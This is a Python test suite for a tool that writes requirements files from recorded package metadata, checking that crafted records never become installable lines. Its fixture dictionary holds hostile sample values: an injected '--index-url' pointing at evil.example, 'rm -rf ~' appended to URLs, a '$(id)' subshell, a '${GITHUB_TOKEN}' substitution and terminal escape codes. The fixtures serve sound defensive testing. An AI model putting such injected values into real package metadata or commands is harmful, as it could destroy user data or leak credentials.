"""`jellyml env` on crafted and old snapshots: a record from a file anyone could have made is
never written as a line pip or uv would act on unless its name, version and URL are plain;
snapshots of JellyML 1.0.0 and of this project's earlier metadata still give a requirements
file. A property test drives the writer with arbitrary records."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jellyml.read.environment import Environment, Package, distribution_records
from jellyml.read.requirements import Options, requirements_file
from kit.checkpoints import model_from_bundle
from kit.cli import jellyml
from kit.repos import bundle_of

GIT = "a" * 40
WHEEL = "https://files.example.com/good-1.0-py3-none-any.whl"


def crafted(repo: Any, out: Path, meta: dict[str, Any]) -> Path:
    bundle, commit = bundle_of(repo)
    return model_from_bundle(out, bundle, commit, meta)


def vcs(url: str, commit: str = GIT, vcs: str = "git", **more: Any) -> dict[str, Any]:
    return {"url": url, "vcs_info": {"vcs": vcs, "commit_id": commit}, **more}


def record(version: Any = "1.0", direct_url: Any = None) -> dict[str, Any]:
    return {"version": version, "installer": "pip", "direct_url": direct_url}


HOSTILE = {
    "six": record("1.16.0"),
    "bad name": record(),
    "newline": record("1.0\n--index-url http://evil.example/simple"),
    "--index-url http://evil.example/simple": record(),
    "-e /": record(),
    "escape\x1b[31m": record("2\x1b]0;title\x07"),
    "semicolon": record(direct_url=vcs("https://evil.example/x.git;rm -rf ~")),
    "subshell": record(direct_url={"url": "https://evil.example/$(id).whl", "archive_info": {}}),
    "variable": record(direct_url=vcs("https://${GITHUB_TOKEN}@evil.example/x.git")),
    "space": record(direct_url=vcs("https://evil.example/a b.git")),
    "quote": record(direct_url=vcs("https://evil.example/a'.git")),
    "backslash": record("1.0\\"),
    "revision-in-path": record(direct_url=vcs("https://evil.example/a@b/x.git")),
    "subdir": record(direct_url=vcs("https://good.example/x.git", subdirectory="a\n-e /")),
    "bad-commit": record(direct_url=vcs("https://good.example/x.git", commit="main; rm -rf ~")),
    "mercurial": record(direct_url=vcs("https://good.example/x", vcs="hg")),
    "not-a-url-record": record(direct_url="file:///"),
    "not-a-record": 5,
    "outside": record(direct_url={"url": "file:///elsewhere/pkg", "dir_info": {"editable": True}}),
    "climbs-out": record(
        direct_url={"url": "file:///work/project/../../etc", "dir_info": {"editable": True}}
    ),
    "local-wheel": record(
        direct_url={"url": "file:///tmp/x-1.0-py3-none-any.whl", "archive_info": {}}
    ),
    "ftp": record(direct_url={"url": "ftp://evil.example/x.whl", "archive_info": {}}),
    "good-vcs": record("2.0", vcs("https://github.com/org/good.git")),
    "good-wheel": record("1.0", {"url": WHEEL, "archive_info": {"hashes": {"sha256": "c" * 64}}}),
}


def test_hostile_records_are_never_written_as_lines(make_repo: Any, tmp_path: Path) -> None:
    repo = make_repo({"a.py": "1\n"})
    meta = {"distributions": HOSTILE, "git": {"repo_path": "/work/project"}}
    model = crafted(repo, tmp_path / "m.pth", meta)
    out = jellyml("env", str(model), "-c", "/work/project", cwd=tmp_path).stdout
    lines = out.splitlines()
    assert out.count("\n") == len(lines)
    assert [line for line in lines if not line.startswith("#")] == [  # metadata's key order
        f"good-vcs @ git+https://github.com/org/good.git@{GIT}",
        f"good-wheel @ {WHEEL}#sha256={'c' * 64}",
        "six==1.16.0",
    ]
    assert all(" " <= c <= "~" for c in out.replace("\n", ""))  # printable ASCII only
    assert not any(line.endswith("\\") for line in lines)  # no comment continues a line
    left_out = "\n".join(lines[lines.index("# Left out (not installable from here):") :])
    for name in HOSTILE:
        if name not in ("six", "good-vcs", "good-wheel"):
            shown = name.replace("\n", "\\n").replace("\x1b", "\\x1b")
            assert f"#   {shown}" in left_out, name
    assert "#   newline: its version (1.0\\n--index-url http://evil.example/simple) is not" in out
    assert (
        "#   mercurial==1.0: installed from a hg checkout (https://good.example/x): only git" in out
    )
    assert "#   not-a-record: not a record" in out
    # What `show --json` makes of the same records: each reduced to its documented shape.
    doc = json.loads(jellyml("show", str(model), "--json", cwd=tmp_path).stdout)
    assert doc["distributions"]["not-a-record"]["problem"] == "not a record"
    assert doc["distributions"]["not-a-url-record"]["direct_url"] is None


def test_the_project_installed_through_a_symbolic_link_is_still_the_project(
    make_repo: Any, tmp_path: Path
) -> None:
    """git records the repository's real path, the installer the path it was given."""
    repo = make_repo({"a.py": "1\n"}, name="real-project")
    link = tmp_path / "link-to-project"
    link.symlink_to(repo.path)
    origin = {"url": (link / "sub").as_uri(), "dir_info": {"editable": True}}
    meta = {
        "distributions": {"project": record("0.1", origin)},
        "git": {"repo_path": str(repo.path.resolve())},
    }
    model = crafted(repo, tmp_path / "m.pth", meta)
    out = jellyml("env", str(model), "-c", "/restored/here", cwd=tmp_path).stdout
    assert "-e /restored/here/sub" in out.splitlines()


def test_a_jellyml_1_0_0_file_gives_a_file_that_says_it_records_nothing(
    fixtures_dir: Path, tmp_path: Path
) -> None:
    model = fixtures_dir / "jellyml-1.0.0-dirty.pth"
    out = jellyml("env", str(model), cwd=tmp_path).stdout
    assert out == (
        f"# The Python environment recorded in {model}'s JellyML snapshot\n"
        "# It records no package list (JellyML 1.0.0 did not): nothing to install.\n"
    )
    assert jellyml("show", str(model), "--requirements", cwd=tmp_path).stdout == out
    for extra in (["--venv", str(tmp_path / "v")], ["--format", "pylock"]):
        proc = jellyml("env", str(model), *extra, cwd=tmp_path, check=1)
        assert "records no package list" in proc.stderr and not (tmp_path / "v").exists()


def test_this_projects_earlier_metadata_gives_pins(make_repo: Any, tmp_path: Path) -> None:
    """Format-2 metadata before the environment fields: versions only, no origins."""
    repo = make_repo({"a.py": "1\n"})
    earlier = {
        "created_at": "2026-11-28T19:16:06+00:00",
        "hostname": "trainer",
        "platform": "Linux-6.1.0-x86_64-with-glibc2.36",
        "python": "3.11.7",
        "python_executable": "/usr/bin/python3",
        "jellyml": "2.0.0",
        "torch": "2.4.0+cu121",
        "argv": ["train.py"],
        "argv_redacted": 0,
        "cwd": "/work",
        "packages": {"numpy": "1.26.4", "torch": "2.4.0+cu121", "torchvision": "0.19.0+cu121"},
        "git": {"repo_name": "work", "repo_path": "/work"},
    }
    model = crafted(repo, tmp_path / "m.pth", earlier)
    out = jellyml("env", str(model), "--exclude-newer", cwd=tmp_path).stdout.splitlines()
    commit = json.loads(jellyml("show", str(model), "--json", cwd=tmp_path).stdout)["commit"]
    assert out == [
        f"# The Python environment recorded in {model}'s JellyML snapshot (commit {commit[:12]})",
        "# Made 2026-11-28T19:16:06+00:00 with Python 3.11.7 on "
        "Linux-6.1.0-x86_64-with-glibc2.36, torch 2.4.0+cu121",
        "# It records versions only (an older JellyML): a package installed from a folder or "
        "from git is pinned as if from an index.",
        "# Install it with uv (fast):",
        "#   uv venv --python 3.11.7",
        "#   uv pip install --no-deps --index-strategy unsafe-best-match --exclude-newer "
        "2026-11-28T19:16:06Z --exclude-newer-package torch=false --exclude-newer-package "
        "torchvision=false -r requirements.txt",
        "# or with pip:",
        "#   python3.11 -m venv .venv && .venv/bin/python -m pip install --no-deps "
        "-r requirements.txt",
        "--extra-index-url https://download.pytorch.org/whl/cu121",
        "numpy==1.26.4",
        "torch==2.4.0+cu121",
        "torchvision==0.19.0+cu121",
    ]
    mirror = {"JELLYML_PYTORCH_INDEX": "https://mirror.example.com/pytorch/whl/"}
    moved = jellyml("env", str(model), cwd=tmp_path, env=mirror).stdout
    assert "--extra-index-url https://mirror.example.com/pytorch/whl/cu121\n" in moved


def test_exclude_newer_needs_a_recorded_date(make_repo: Any, tmp_path: Path) -> None:
    repo = make_repo({"a.py": "1\n"})
    model = crafted(repo, tmp_path / "m.pth", {"packages": {"six": "1.16.0"}, "created_at": "x"})
    proc = jellyml("env", str(model), "--exclude-newer", cwd=tmp_path, check=1)
    assert proc.stderr.startswith(f"error: The snapshot in {model} records no valid date")
    assert "six==1.16.0" in jellyml("env", str(model), cwd=tmp_path).stdout


def test_env_reads_no_torch_and_no_rich_when_piped(make_repo: Any, tmp_path: Path) -> None:
    repo = make_repo({"a.py": "1\n"})
    model = crafted(repo, tmp_path / "m.pth", {"packages": {"six": "1.16.0"}})
    code = (
        "import sys\n"
        "from jellyml.cli.main import main\n"
        f"code = main(['env', {str(model)!r}])\n"
        "print([m for m in ('torch', 'rich', 'importlib.metadata') if m in sys.modules], "
        "file=sys.stderr)\n"
        "sys.exit(code)\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=tmp_path
    )
    assert proc.returncode == 0 and "six==1.16.0" in proc.stdout
    assert proc.stderr.strip() == "[]"


# --- the writer, driven with arbitrary records -----------------------------------------------

_LINE = re.compile(
    r"--extra-index-url https://download\.pytorch\.org/whl/[a-z0-9.]+"
    r"|-e /work/project(?:/[A-Za-z0-9._+-]+)*"
    r"|[A-Za-z0-9][A-Za-z0-9._-]*==[A-Za-z0-9.!+_-]+"
    r"|[A-Za-z0-9][A-Za-z0-9._-]* @ (?:git\+)?[a-z]+://[A-Za-z0-9._~:/@%+=,-]+"
    r"(?:@[0-9a-f]{40}|@[0-9a-f]{64})?(?:#(?:subdirectory=[A-Za-z0-9._/+-]+|sha\d+=[0-9a-f]+))?"
)

_texts = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["six", "torch", "1.0", "2.4.0+cu121", "1.0+cpu", "-e /", "--index-url x"]),
)
_urls = st.one_of(
    st.text(max_size=40),
    st.builds(
        lambda scheme, rest: f"{scheme}{rest}",
        st.sampled_from(["https://", "http://", "file:///work/project/", "ssh://git@", "file://"]),
        st.text(max_size=30),
    ),
)
_direct_urls = st.one_of(
    st.none(),
    st.builds(
        lambda url, kind, info, sub: {
            "url": url,
            kind: info,
            **({"subdirectory": sub} if sub else {}),
        },
        _urls,
        st.sampled_from(["vcs_info", "dir_info", "archive_info"]),
        st.fixed_dictionaries(
            {},
            optional={
                "vcs": st.sampled_from(["git", "hg", "x\ny"]),
                "commit_id": st.one_of(st.just(GIT), st.text(max_size=10)),
                "editable": st.booleans(),
                "hashes": st.dictionaries(st.sampled_from(["sha256", "md5"]), _texts),
            },
        ),
        st.one_of(st.none(), _texts),
    ),
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(_texts, st.tuples(st.one_of(st.none(), _texts), _direct_urls), max_size=8))
def test_every_written_line_is_plain_whatever_the_records(records: dict[str, Any]) -> None:
    raw = {name: record(version, origin) for name, (version, origin) in records.items()}
    found = distribution_records(raw) or {}
    packages = tuple(
        Package(n, r["version"], r["installer"], r["direct_url"], r.get("problem"))
        for n, r in found.items()
    )
    env = Environment(
        model="m.pth",
        commit=None,
        created_at=None,
        python="3.11.7",
        python_implementation="CPython",
        platform=None,
        platform_tag="linux_x86_64",
        torch=None,
        torch_cuda=None,
        torch_rocm=None,
        repo_path="/work/project",
        repo_name="project",
        packages=packages,
        origins_recorded=True,
    )
    made = requirements_file(env, Options(code_dir="/work/project"))
    text = made.text()
    lines = text.split("\n")[:-1]
    assert len(lines) == len(made.lines())
    for line in lines:
        if line.startswith("#"):
            assert all(" " <= c <= "~" for c in line) and not line.endswith("\\"), line
        else:
            assert _LINE.fullmatch(line), line
    assert len(made.installable) + len(made.left_out) == len(records)
